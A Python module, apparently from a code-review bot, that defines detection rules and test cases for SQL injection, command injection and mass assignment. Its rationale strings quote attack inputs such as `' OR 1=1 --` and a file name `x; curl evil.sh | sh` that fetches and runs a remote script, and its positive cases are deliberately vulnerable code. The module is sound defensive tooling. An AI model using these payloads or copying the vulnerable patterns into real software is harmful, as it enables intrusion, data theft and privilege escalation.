"""Ruby and PHP SQL injection (`ruby-sql-injection`, `php-sql-injection`) and the
cross-language `command-injection` and `mass-assignment` rules."""

from __future__ import annotations

import re

from bot.models import Category, ChangedFile, FileKind, Severity
from bot.rules.engine import Check, Rule, RuleCase
from bot.rules.security_js import (
    Pattern,
    PatternCheck,
    call_arguments,
    dynamic_part,
    first_argument_dynamic,
    is_string_literal,
    short,
)
from bot.rules.taint.mixed import FlowPatternCheck

_CODE_KINDS = frozenset({FileKind.CODE, FileKind.ORM_SCHEMA})
_RUBY = frozenset({"ruby"})
_PHP = frozenset({"php"})
_JS = frozenset({"javascript", "typescript"})
_JVM = frozenset({"java", "kotlin"})

# --- ruby-sql-injection / php-sql-injection -------------------------------------------------

RUBY_SQL_ID = "ruby-sql-injection"
PHP_SQL_ID = "php-sql-injection"
_SQL_RATIONALE = (
    "The value becomes part of the SQL text, so whoever controls it controls the query: "
    "`' OR 1=1 --` returns every row, a UNION reads password hashes from another table, "
    "and an `order` or raw fragment built from a sort parameter is a blind-injection "
    "channel. A quote in an ordinary name also turns into a 500."
)
RUBY_SQL_RULE = Rule(
    id=RUBY_SQL_ID,
    category=Category.SECURITY,
    severity=Severity.HIGH,
    title="ActiveRecord SQL fragment built by string interpolation",
    rationale=_SQL_RATIONALE,
    fix=(
        'Bind values: `where("name = ?", name)`, `where(name: name)`, `find_by_sql(["… '
        'WHERE id = ?", id])`, `sanitize_sql_array`; for `order`, use a hash '
        "(`order(created_at: :desc)`) or pick the column from an allow-list."
    ),
    languages=("ruby",),
    positive=(
        RuleCase(
            path="app/models/user.rb",
            code=(
                "class User < ApplicationRecord\n"
                "  def self.search(params)\n"
                '    where("name LIKE \'%#{params[:q]}%\'").order("#{params[:sort]} DESC")\n'
                '    find_by_sql("SELECT * FROM users WHERE id = " + params[:id])\n'
                "  end\n"
                "end\n"
            ),
            lines=(3, 4),
        ),
    ),
    negative=(
        # An internal table name spliced next to a bound value, and an allow-listed
        # sort direction: no request text reaches the SQL.
        RuleCase(
            path="app/controllers/users_controller.rb",
            code=(
                "class UsersController < ApplicationController\n"
                "  SORTS = %w[name email].freeze\n"
                "  def index\n"
                "    t = User.arel_table.name\n"
                '    User.where("#{t}.name LIKE ?", "%#{params[:q]}%").order(created_at: :desc)\n'
                '    dir = params[:dir] == "asc" ? "ASC" : "DESC"\n'
                '    User.where("org_id = ?", params[:org]).order("created_at #{dir}")\n'
                "  end\n"
                "end\n"
            ),
        ),
    ),
)
PHP_SQL_RULE = Rule(
    id=PHP_SQL_ID,
    category=Category.SECURITY,
    severity=Severity.HIGH,
    title="SQL built by interpolation or concatenation is passed to a query call",
    rationale=_SQL_RATIONALE,
    fix=(
        "Bind values: `DB::select('… WHERE id = ?', [$id])`, `whereRaw('price > ?', "
        "[$p])`, PDO `prepare` with `?`/`:name` and `execute([...])`, `mysqli` prepared "
        "statements. Column names for `orderByRaw` come from an allow-list."
    ),
    languages=("php",),
    positive=(
        RuleCase(
            path="app/Http/Controllers/UserController.php",
            code=(
                "<?php\n"
                "class UserController {\n"
                "    public function index(Request $request) {\n"
                "        $name = $request->input('name');\n"
                "        $users = DB::select(\"SELECT * FROM users WHERE name = '$name'\");\n"
                "        $q = User::whereRaw('age > ' . $request->input('age'))->get();\n"
                "        $r = $pdo->query(\"SELECT * FROM t WHERE id = \" . $_GET['id']);\n"
                "    }\n"
                "}\n"
            ),
            lines=(5, 6, 7),
        ),
    ),
    negative=(
        RuleCase(
            path="app/Http/Controllers/UserController.php",
            code=(
                "<?php\n"
                "class UserController {\n"
                "    public function index(Request $request) {\n"
                "        $table = $this->prefix . 'users';\n"
                "        $users = DB::select(\"SELECT * FROM {$table} WHERE name = ?\", [$request->input('name')]);\n"  # noqa: E501
                "        $dir = $request->input('dir') === 'asc' ? 'ASC' : 'DESC';\n"
                "        $q = DB::select(\"SELECT * FROM t WHERE org = ? ORDER BY id $dir\", [$request->input('org')]);\n"  # noqa: E501
                "        DB::statement('CREATE TABLE ' . 'IF NOT EXISTS' . ' t (id int)');\n"
                "    }\n"
                "}\n"
            ),
        ),
    ),
)

# --- command-injection ----------------------------------------------------------------------

CMD_ID = "command-injection"
_SHELLS = re.compile(r"^[\"'](?:/bin/|/usr/bin/)?(?:sh|bash|zsh|dash|ash|cmd(?:\.exe)?)[\"']$")


def _shell_c(match: re.Match[str], text: str, file: ChangedFile) -> str | bool:
    language = file.language or ""
    args = call_arguments(text, match.end() - 1, language)
    if args and not args[0].startswith(('"', "'")):
        args = args[1:]  # exec.CommandContext(ctx, …)
    shell = len(args) >= 3 and _SHELLS.match(args[0]) and args[1].strip("\"'") in {"-c", "/c"}
    if shell and not is_string_literal(args[2], language):
        return f"The shell runs `{short(args[2])}`, a string computed at run time."
    return False


def _node_exec(match: re.Match[str], text: str, file: ChangedFile) -> str | bool:
    if "child_process" not in text:
        return False
    return first_argument_dynamic(match, text, file)


def _ruby_shell(match: re.Match[str], text: str, file: ChangedFile) -> str | bool:
    args = call_arguments(text, match.end() - 1, "ruby")
    if len(args) != 1:  # several arguments: no shell is involved
        return False
    found = dynamic_part(args[0], "ruby")
    return f"The shell command splices in `{short(found)}`." if found else False


def _php_shell(match: re.Match[str], text: str, file: ChangedFile) -> str | bool:
    args = call_arguments(text, match.end() - 1, "php")
    if not args or is_string_literal(args[0], "php") or "escapeshellarg" in args[0]:
        return False
    if "$" not in args[0]:
        return False
    return f"The shell command comes from `{short(args[0])}`."


CMD_PATTERNS = (
    Pattern(
        CMD_ID, frozenset({"go"}), re.compile(r"\bexec\.(?P<at>Command(?:Context)?)\s*\("), _shell_c
    ),
    Pattern(
        CMD_ID,
        _JS,
        re.compile(
            r"(?:(?<![\w$.])|\b(?:child_process|childProcess|cp)\.|child_process['\"]\)\.)"
            r"(?P<at>exec|execSync)\s*\("
        ),
        _node_exec,
    ),
    Pattern(
        CMD_ID,
        _JVM,
        re.compile(r"\bRuntime\.getRuntime\(\)\s*\.\s*(?P<at>exec)\s*\("),
        first_argument_dynamic,
    ),
    Pattern(CMD_ID, _JVM, re.compile(r"(?P<at>ProcessBuilder)\s*\("), _shell_c),
    Pattern(
        CMD_ID,
        _RUBY,
        re.compile(r"(?<![\w.:])(?P<at>system|exec|spawn|IO\.popen|Open3\.\w+)\("),
        _ruby_shell,
    ),
    Pattern(
        CMD_ID,
        _RUBY,
        re.compile(r"(?P<at>`)[^`\n]*#\{[^`\n]*`|(?P<x>%x)[({\[][^\n]*#\{"),
        lambda m, t, f: "The shell command is built by interpolation.",
    ),
    Pattern(
        CMD_ID,
        _PHP,
        re.compile(
            r"(?<![\w>:$])(?P<at>shell_exec|exec|system|passthru|popen|proc_open"
            r"|pcntl_exec)\s*\("
        ),
        _php_shell,
    ),
)

CMD_RULE = Rule(
    id=CMD_ID,
    category=Category.SECURITY,
    severity=Severity.HIGH,
    title="A shell command is built from run-time values",
    rationale=(
        "The string goes to a shell, which treats `;`, `|`, `$( )` and backticks in it as "
        "commands. A file name like `x; curl evil.sh | sh` sent to this endpoint runs "
        "arbitrary programs as the service user: secrets in the environment are read, "
        "the host joins a botnet, data is deleted."
    ),
    fix=(
        "Run the program directly with an argument list and no shell: Go `exec.Command("
        "\"convert\", in, out)`, Node `execFile('convert', [in, out])`/`spawn` without "
        '`shell`, Java `new ProcessBuilder("convert", in, out)`, Ruby `system("convert", '
        "in, out)`, PHP `escapeshellarg` on every value (or Symfony Process with an array)."
    ),
    languages=(
        "go",
        "javascript",
        "typescript",
        "java",
        "kotlin",
        "ruby",
        "php",
        "csharp",
        "scala",
    ),
    positive=(
        RuleCase(
            path="internal/media/convert.go",
            code=(
                "package media\n"
                "\n"
                "func Convert(c *gin.Context) {\n"
                '\texec.Command("sh", "-c", "convert "+c.Query("name")+" out.png").Run()\n'
                "}\n"
            ),
            lines=(4,),
        ),
        RuleCase(
            path="server/convert.js",
            code=(
                "const { exec } = require('child_process');\n"
                "router.post('/convert', (req, res) => {\n"
                "  const name = req.body.name;\n"
                "  exec(`convert ${name} out.png`);\n"
                "});\n"
            ),
            lines=(4,),
        ),
        RuleCase(
            path="src/main/java/com/acme/Convert.java",
            code=(
                "class Convert {\n"
                '  @PostMapping("/convert")\n'
                "  void run(@RequestParam String name) throws IOException {\n"
                '    Runtime.getRuntime().exec("convert " + name + " out.png");\n'
                "  }\n"
                "}\n"
            ),
            lines=(4,),
        ),
        RuleCase(
            path="app/controllers/convert_controller.rb",
            code=(
                "class ConvertController < ApplicationController\n"
                "  def create\n"
                '    system("convert #{params[:name]} out.png")\n'
                "    `rm -f #{params[:name]}`\n"
                "  end\n"
                "end\n"
            ),
            lines=(3, 4),
        ),
        RuleCase(
            path="app/Http/Controllers/Convert.php",
            code=(
                "<?php\n"
                "function convert() {\n"
                "    return shell_exec('convert ' . $_GET['name']);\n"
                "}\n"
            ),
            lines=(3,),
        ),
    ),
    negative=(
        RuleCase(
            path="internal/media/convert.go",
            code=(
                "package media\n"
                "\n"
                "func Convert(c *gin.Context) {\n"
                '\texec.Command("sh", "-c", "make clean").Run()\n'
                '\tn, _ := strconv.Atoi(c.Query("n"))\n'
                '\texec.Command("convert", "-resize", strconv.Itoa(n), "out.png").Run()\n'
                "}\n"
            ),
        ),
        RuleCase(
            path="server/convert.js",
            code=(
                "const { execFile } = require('child_process');\n"
                "execFile('convert', [name, 'out.png']);\n"
                "const m = pattern.exec(`${name}`);\n"
            ),
        ),
        RuleCase(
            # A helper's parameter, a build step of constants and a value picked from an
            # allow-list: none is request input.
            path="server/jobs.js",
            code=(
                "const { exec, execSync } = require('child_process');\n"
                "function convert(name) {\n"
                "  exec(`convert ${name} out.png`);\n"
                "}\n"
                "execSync(`git rev-parse ${BRANCH}`);\n"
                "router.post('/fmt', (req, res) => {\n"
                "  const fmt = FORMATS.includes(req.body.fmt) ? req.body.fmt : 'png';\n"
                "  exec(`convert in.tiff out.${fmt}`);\n"
                "});\n"
            ),
        ),
        RuleCase(
            path="src/main/java/com/acme/Convert.java",
            code=(
                "class Convert {\n"
                "  void run(String name) throws IOException {\n"
                '    Runtime.getRuntime().exec("convert " + name + " out.png");\n'
                "  }\n"
                '  @PostMapping("/thumb")\n'
                "  void thumb(@RequestParam long id) throws IOException {\n"
                '    Runtime.getRuntime().exec("thumb " + id);\n'
                "  }\n"
                "}\n"
            ),
        ),
        RuleCase(
            path="app/controllers/convert_controller.rb",
            code=(
                "class ConvertController < ApplicationController\n"
                "  def create\n"
                '    system("convert", File.basename(params[:name]), "out.png")\n'
                '    system("make clean")\n'
                "  end\n"
                "end\n"
            ),
        ),
        RuleCase(
            path="app/Http/Controllers/Convert.php",
            code=(
                "<?php\n"
                "function convert() {\n"
                "    shell_exec('convert ' . escapeshellarg($_GET['name']));\n"
                "    exec('make clean');\n"
                "}\n"
            ),
        ),
    ),
)

# --- mass-assignment ------------------------------------------------------------------------

MASS_ID = "mass-assignment"
_BODY = re.compile(r"^(?:\{\s*\.\.\.)?(?:req|request|ctx\.request)\.body\s*\}?$")
_PHP_ALL = re.compile(
    r"^(?:\$request->all\(\)|request\(\)->all\(\)|Input::all\(\)|\$_POST|\$_REQUEST)$"
)


_DATA_KEY = re.compile(r"\{\s*+data\s*+:\s*+")


def _unwrap_data(arg: str) -> str:
    """`{ data: X }` -> `X` (Prisma's create argument), by slicing: a lazy body before a
    trailing whitespace run backtracks quadratically on a long argument."""
    head = _DATA_KEY.match(arg)
    body = arg[:-1] if arg.endswith("\n") else arg
    if head is None or not body.endswith("}"):
        return arg
    return body[head.end() : -1].rstrip()


def _js_mass(match: re.Match[str], text: str, file: ChangedFile) -> str | bool:
    for arg in call_arguments(text, match.end() - 1, file.language or ""):
        inner = _unwrap_data(arg)
        if _BODY.match(arg) or _BODY.match(inner):
            return f"The whole request body goes into `{match.group('at') or match.group('cls')}`."
    return False


def _php_mass(match: re.Match[str], text: str, file: ChangedFile) -> str | bool:
    for arg in call_arguments(text, match.end() - 1, "php"):
        if _PHP_ALL.match(arg):
            return f"Every request field goes into `{match.group('at')}`."
    return False


MASS_PATTERNS = (
    Pattern(
        MASS_ID,
        _RUBY,
        re.compile(r"\.(?P<at>permit!)"),
        lambda m, t, f: "`permit!` lets every parameter through.",
    ),
    Pattern(
        MASS_ID,
        _JS,
        re.compile(
            r"(?:\.(?P<at>create|build|update|insertMany|insert|findOneAndUpdate"
            r"|updateOne|updateMany|findByIdAndUpdate|upsert|bulkCreate|assign|set)"
            r"|\bnew\s+(?=[A-Z])(?P<cls>\w+))\s*\("
        ),
        _js_mass,
    ),
    Pattern(
        MASS_ID,
        _PHP,
        re.compile(
            r"(?:->|::)(?P<at>create|update|fill|forceFill|forceCreate|updateOrCreate"
            r"|firstOrCreate|insert)\s*\("
        ),
        _php_mass,
    ),
)

MASS_RULE = Rule(
    id=MASS_ID,
    category=Category.SECURITY,
    severity=Severity.HIGH,
    title="Every request field is written to the model (mass assignment)",
    rationale=(
        "Whatever fields the client sends are stored, not just the ones the form shows. "
        'An attacker adds `"role": "admin"`, `"is_verified": true`, `"balance": '
        "1000000` or another user's `owner_id` to an ordinary profile update and the "
        "database takes it — privilege escalation with one request."
    ),
    fix=(
        "Copy an explicit list of fields: Rails `params.require(:user).permit(:name, "
        ":email)`, `const { name, email } = req.body` (or a validated DTO with "
        "`whitelist: true`), Laravel `$request->validated()` or `$request->only([...])` "
        "with `$fillable` set on the model."
    ),
    languages=("ruby", "javascript", "typescript", "php"),
    positive=(
        RuleCase(
            path="app/controllers/users_controller.rb",
            code=(
                "class UsersController < ApplicationController\n"
                "  def update\n"
                "    @user.update(params.require(:user).permit!)\n"
                "  end\n"
                "end\n"
            ),
            lines=(3,),
        ),
        RuleCase(
            path="server/routes/users.js",
            code=(
                "const express = require('express');\n"
                "router.post('/users', async (req, res) => {\n"
                "  const user = await User.create(req.body);\n"
                "  const post = new Post(req.body);\n"
                "  await prisma.user.update({ where: { id }, data: req.body });\n"
                "  res.json(user);\n"
                "});\n"
            ),
            lines=(3, 4),
        ),
        RuleCase(
            path="app/Http/Controllers/UserController.php",
            code=(
                "<?php\nfunction store($request) {\n    return User::create($request->all());\n}\n"
            ),
            lines=(3,),
        ),
    ),
    negative=(
        RuleCase(
            path="app/controllers/users_controller.rb",
            code="@user.update(params.require(:user).permit(:name, :email))\n",
        ),
        RuleCase(
            path="server/routes/users.ts",
            code=(
                "import express from 'express';\n"
                "const { name, email } = req.body;\n"
                "const user = await User.create({ name, email });\n"
                "await User.update(req.body.name);\n"
            ),
        ),
        RuleCase(
            path="app/Http/Controllers/UserController.php",
            code="<?php\nreturn User::create($request->validated());\n",
        ),
    ),
)


class RubySqlInjection(FlowPatternCheck):
    name = "security:ruby-sql-injection"
    rules = (RUBY_SQL_RULE,)
    languages = _RUBY
    flow_languages = _RUBY  # request input reaching the SQL text; no pattern left
    kinds = _CODE_KINDS


class PhpSqlInjection(FlowPatternCheck):
    name = "security:php-sql-injection"
    rules = (PHP_SQL_RULE,)
    languages = _PHP
    flow_languages = _PHP  # request input reaching the SQL text; no pattern left
    kinds = _CODE_KINDS


class CommandInjection(FlowPatternCheck):
    """Every language the taint engine covers reports from flows."""

    name = "security:command-injection"
    rules = (CMD_RULE,)
    flow_languages = frozenset(
        {"go", "ruby", "php", "kotlin", "csharp", "scala", "javascript", "typescript", "java"}
    )
    languages = frozenset(CMD_RULE.languages)
    kinds = _CODE_KINDS
    patterns = CMD_PATTERNS
    hint = re.compile(r"exec|Command|system|spawn|popen|Open3|`|%x|passthru|ProcessBuilder")


class MassAssignment(PatternCheck):
    name = "security:mass-assignment"
    rules = (MASS_RULE,)
    languages = frozenset(MASS_RULE.languages)
    kinds = _CODE_KINDS
    patterns = MASS_PATTERNS
    hint = re.compile(r"permit!|\.body|->all\(\)|Input::all|\$_POST|\$_REQUEST")


CHECKS: list[Check] = [RubySqlInjection(), PhpSqlInjection(), CommandInjection(), MassAssignment()]
